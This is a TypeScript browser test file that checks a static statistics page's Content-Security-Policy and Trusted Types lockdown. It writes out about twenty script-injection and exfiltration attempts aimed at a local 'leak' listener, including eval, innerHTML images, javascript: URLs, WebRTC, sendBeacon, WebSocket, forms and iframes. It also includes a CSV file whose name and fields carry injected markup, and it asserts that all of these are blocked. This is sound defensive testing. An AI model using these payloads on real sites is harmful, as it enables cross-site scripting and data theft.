/**
 * Nothing leaves the computer, by construction: the policy allows only the page's own inline
 * scripts (by hash; no 'unsafe-inline', no eval), requires Trusted Types, and allows no request;
 * window.open and WebRTC are gone before any script runs. Every way an injected string could
 * reach a listener on 127.0.0.1 is tried from inside the page, and the listener must hear nothing.
 */
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DIST } from "./browser.js";
import { chooseDalarna, dropFile, openPage, session } from "./helpers.js";

const s = session();
let listener: Server;
let outside = "";
const heard: string[] = [];

beforeAll(async () => {
  listener = createServer((req, res) => {
    heard.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" }).end("<p>gotcha</p>");
  });
  await new Promise<void>((ok) => listener.listen(0, "127.0.0.1", ok));
  outside = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
afterAll(
  () =>
    new Promise<void>((ok) => {
      listener.closeAllConnections();
      listener.close(() => ok());
    }),
);

const html = () => readFileSync(join(DIST, "index.html"), "utf8");

describe("the Content-Security-Policy", () => {
  it("allows exactly the page's inline scripts and style by sha256: no 'unsafe-inline', no eval, Trusted Types required", () => {
    const page = html();
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(page)![1]!;
    const directives = new Map(csp.split(/;\s*/).map((d) => [d.split(" ")[0]!, d.split(" ").slice(1)]));
    expect(csp).not.toContain("unsafe-inline");
    expect(csp).not.toContain("unsafe-eval");
    expect(directives.get("default-src")).toEqual(["'none'"]);
    expect(directives.get("connect-src")).toEqual(["'none'"]);
    expect(directives.get("form-action")).toEqual(["'none'"]);
    expect(directives.get("frame-src")).toEqual(["'none'"]);
    expect(directives.get("worker-src")).toEqual(["blob:"]);
    expect(directives.get("require-trusted-types-for")).toEqual(["'script'"]);
    expect(directives.get("trusted-types")).toEqual(["stimulansmedel", "stimulansmedel-boot"]);
    // The executable scripts are the lockdown (first in <head>), the boot script, and the page's
    // module, which the boot script starts from its block; their hashes are the only sources.
    const module = /<script type="text\/x-stimulansmedel-module" id="page-module">([\s\S]*?)<\/script>/.exec(page)![1]!;
    const scripts = [...[...page.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]!), module];
    expect(scripts).toHaveLength(3);
    expect(page.indexOf("<script>")).toBeLessThan(page.indexOf("<style>"));
    const hash = (t: string) => `'sha256-${createHash("sha256").update(t, "utf8").digest("base64")}'`;
    expect(directives.get("script-src")).toEqual(scripts.map(hash));
    const styles = [...page.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => m[1]!);
    expect(directives.get("style-src")).toEqual(styles.map(hash));
    // Everything else is inert data: never executed by the browser.
    const others = [...page.matchAll(/<script ([^>]*)>/g)].map((m) => m[1]!);
    expect(others.length).toBeGreaterThan(3);
    expect(others.every((a) => /^type="text\/(csv|x-stimulansmedel-worker|x-stimulansmedel-module)"/.test(a))).toBe(true);
  });
});

describe("an injected string cannot reach the outside", () => {
  it("refuses markup, script, eval, window.open, WebRTC, requests and navigation by script; the listener hears nothing", async () => {
    const page = await openPage(s);
    await chooseDalarna(page);
    const url = `${outside}/leak?data=`;
    const outcomes = await page.evaluate(async (leak) => {
      const tries: Record<string, () => unknown> = {
        "innerHTML meta refresh": () => (document.body.insertAdjacentElement("beforeend", document.createElement("div"))!.innerHTML = `<meta http-equiv="refresh" content="0;url=${leak}meta">`),
        "innerHTML img": () => (document.createElement("div").innerHTML = `<img src="${leak}img">`),
        "document.write": () => document.write(`<img src="${leak}write">`),
        "script text": () => (document.body.appendChild(document.createElement("script")).textContent = `fetch("${leak}script")`),
        // The boot script's policy vouches for the module's text once; its name cannot be taken again.
        "boot policy again": () => {
          const tt = (window as unknown as { trustedTypes: { createPolicy(n: string, r: object): { createScript(t: string): string } } }).trustedTypes;
          const p = tt.createPolicy("stimulansmedel-boot", { createScript: (t: string) => t });
          const el = document.body.appendChild(document.createElement("script"));
          el.text = p.createScript(`fetch("${leak}boot")`);
        },
        "script src": () => (document.body.appendChild(document.createElement("script")).src = `${leak}src`),
        eval: () => (0, eval)(`fetch("${leak}eval")`),
        Function: () => new Function(`fetch("${leak}function")`)(),
        "setTimeout string": () => (setTimeout as unknown as (code: string) => number)(`fetch("${leak}timeout")`),
        "javascript: URL": () => (location.href = `javascript:fetch("${leak}js")`),
        "window.open": () => window.open(`${leak}open`),
        RTCPeerConnection: () => new (window as unknown as { RTCPeerConnection: new (c: unknown) => unknown }).RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(leak).host}` }] }),
        webkitRTCPeerConnection: () => new (window as unknown as { webkitRTCPeerConnection: new () => unknown }).webkitRTCPeerConnection(),
        sendBeacon: () => navigator.sendBeacon(`${leak}beacon`, "x"),
        "new Worker(url)": () => new Worker(`${leak}worker`),
        "inline handler": () => {
          const b = document.body.appendChild(document.createElement("button"));
          b.setAttribute("onclick", `fetch("${leak}onclick")`);
          b.click();
        },
      };
      const out: Record<string, string> = {};
      // Each try runs in a task of its own: code the test tool evaluates directly is exempt
      // from the page's eval rule, code that runs later in the page is not.
      for (const [name, f] of Object.entries(tries)) {
        out[name] = await new Promise<string>((done) =>
          setTimeout(() => {
            try {
              const r = f();
              if (r instanceof Promise) r.catch(() => undefined);
              done(`ran: ${String(r)}`);
            } catch (e) {
              done(`refused: ${(e as Error).name}`);
            }
          }),
        );
      }
      // Requests the policy blocks without throwing: they must fail.
      const failed = async (p: () => Promise<unknown>) => p().then(() => "ran", (e) => `refused: ${(e as Error).name}`);
      out.fetch = await failed(() => fetch(`${leak}fetch`));
      out.image = await failed(() => new Promise((ok, ko) => Object.assign(new Image(), { onload: ok, onerror: () => ko(new Error("blocked")), src: `${leak}image` })));
      out.WebSocket = await failed(() => new Promise((ok, ko) => Object.assign(new WebSocket(leak.replace("http", "ws")), { onopen: ok, onerror: () => ko(new Error("blocked")) })));
      // A form and an iframe: blocked by form-action and frame-src.
      const form = Object.assign(document.createElement("form"), { action: `${leak}form`, method: "get" });
      document.body.append(form);
      form.submit();
      const frame = Object.assign(document.createElement("iframe"), { src: `${leak}frame` });
      document.body.append(frame);
      await new Promise((r) => setTimeout(r, 1500));
      return out;
    }, url);
    // A javascript: URL is refused after the assignment returns (a policy violation, no throw):
    // the listener below is what shows it never ran.
    for (const [name, outcome] of Object.entries(outcomes)) if (name !== "javascript: URL") expect(`${name}: ${outcome}`).toMatch(/: refused: /);
    expect(Object.keys(outcomes)).toHaveLength(19);
    // Still the page, not navigated anywhere.
    expect(page.url().startsWith(s.server.url)).toBe(true);
    expect(await page.locator("#resultat-rubrik").textContent()).toBe("Fördelning 2025: Dalarnas län");
    expect(heard).toEqual([]);
    await page.close();
  });

  it("shows markup in a file's text as text", async () => {
    const page = await openPage(s);
    await chooseDalarna(page);
    const evil = `<img src="${outside}/file-img"><meta http-equiv="refresh" content="0;url=${outside}/file-meta">`;
    const csv = [`# referensdatum: 2024-11-01`, `# källa: ${evil}`, "kommun_kod,nyckel,antal", `2080,total,x${evil.replace(/,/g, "")}`].join("\n");
    await dropFile(page, `${evil}.csv`, Buffer.from(csv));
    await page.locator('#messages [role="alert"]').waitFor();
    expect(await page.locator("#messages").innerText()).toContain(`<img src="${outside}/file-img">`);
    expect(await page.locator("#messages img, #messages meta").count()).toBe(0);
    await page.waitForTimeout(500);
    expect(heard).toEqual([]);
    await page.close();
  });

  it("logged nothing but the refusals it asked for", () => {
    // The refused attempts above are reported by Chromium as policy violations; nothing else may be.
    const unexpected = s.pageErrors.filter((e) => !/Trusted|Content Security Policy|Refused|javascript: URL|violates|Failed to fetch|WebSocket connection/.test(e));
    expect(unexpected, unexpected.join("\n")).toEqual([]);
    expect(s.foreignRequests.every((u) => u.startsWith(outside) || u.startsWith("ws://127.0.0.1") || u.startsWith("stun:"))).toBe(true);
    expect(heard).toEqual([]);
  });
});
